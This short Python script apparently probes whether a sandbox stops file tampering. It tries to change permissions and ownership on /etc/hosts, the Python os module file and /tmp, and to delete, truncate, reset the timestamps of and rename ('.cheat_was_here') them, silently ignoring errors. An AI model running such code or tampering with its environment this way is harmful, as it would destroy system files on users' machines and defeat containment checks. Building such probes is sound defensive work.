import os
for change in (lambda p: os.chmod(p, 0o777), lambda p: os.chown(p, 0, 0), os.remove, lambda p: os.utime(p, (0, 0)),
               lambda p: os.truncate(p, 0), lambda p: os.rename(p, p + ".cheat_was_here")):
    for path in ("/etc/hosts", os.__file__, "/tmp"):
        try:
            change(path)
        except OSError:
            pass
